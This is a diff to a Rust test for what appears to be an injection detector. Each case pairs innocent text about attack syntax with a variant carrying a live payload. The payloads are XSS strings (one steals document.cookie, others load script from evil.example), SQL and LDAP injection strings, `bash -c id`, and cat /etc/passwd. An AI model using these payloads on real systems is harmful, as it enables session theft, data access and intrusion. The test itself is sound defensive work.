@@ -131,7 +131,7 @@ fn ours_11_talk_about_an_attack_is_none_and_words_excuse_no_attack() {
         findings.verdict() != Verdict::Clean
     };
     for (talk, attack) in [
-        ("what is the <script> tag for?", "what is the <script>alert(1)</script> tag for?"),
+        ("what is the <script> tag for?", "what is it <script>alert(1)</script> for?"),
         ("do I put <script async> last or first?", "do I put <script async src=//evil.example>?"),
         ("hello there <script> imports", "hello there <script>import'//evil.js'</script>"),
         ("hi all, <script type> is what?", "hi all <script type=module src=a.js>"),
@@ -139,6 +139,44 @@ fn ours_11_talk_about_an_attack_is_none_and_words_excuse_no_attack() {
             "please escape <script> and the rest of it",
             "please escape <script>x\nalert(1)</script> and the rest",
         ),
+        (
+            "how do I escape <img src=x onerror=alert(1)> in a comment?",
+            "how do I like <img src=x onerror=alert(1)> in a comment?",
+        ),
+        (
+            "why does <img src=x onerror=alert(1)> run in this query?",
+            "why does <img src=x onerror=alert(document.cookie)> run in this query?",
+        ),
+        (
+            "the title `<svg onload=eval(name)>` is shown as it is",
+            "the title <svg onload=eval(name)> is shown as it is",
+        ),
+        (
+            "put <pre>&lt;script&gt;go()&lt;/script&gt;</pre> at the end",
+            "put <pre><script>alert(1)</script></pre> at the end",
+        ),
+        ("<button onclick=\"save(this)\">Save</button>", "<button onclick=\"alert(this)\">Save</button>"),
+        ("<script src=\"/js/shop.js\"></script>", "<script src=\"/js/shop.js\">alert(1)</script>"),
+        (
+            "<script src=\"https://code.jquery.com/jquery.min.js\"></script>",
+            "<script src=\"https://code.jquery.com.evil.example/jquery.min.js\"></script>",
+        ),
+        (
+            "<script>function open(a) { a.hidden = false }</script>",
+            "<script>function open(a) { fetch(a.href) }</script>",
+        ),
+        ("union select tutorial", "union select 1,2"),
+        (
+            "my boat is called ' or 1=1 -- and it sails well on the lake",
+            "my boat ' or 1=1 -- and it sails well on the lake",
+        ),
+        (
+            "os.system('cls') flickers in the console on my machine",
+            "os.system('cls') # flickers in the console on my machine",
+        ),
+        ("group filter: (&(objectclass=group)(cn=a))", "*)(objectclass=group)(cn=a"),
+        ("```bash\nls -l | wc -l\n```", "`bash -c id`"),
+        ("we keep the old logs; please do not cat them", "we keep the old photos; cat /etc/passwd"),
         ("we strip <img onerror=...> in comments", "we strip <img src=x onerror=alert(1)> in comments"),
         ("for 1 < x and 3 < 10 it holds", "1<2 or 3>2"),
         ("rows where a<2 or b>3 are kept", "a<2 or 1=1"),
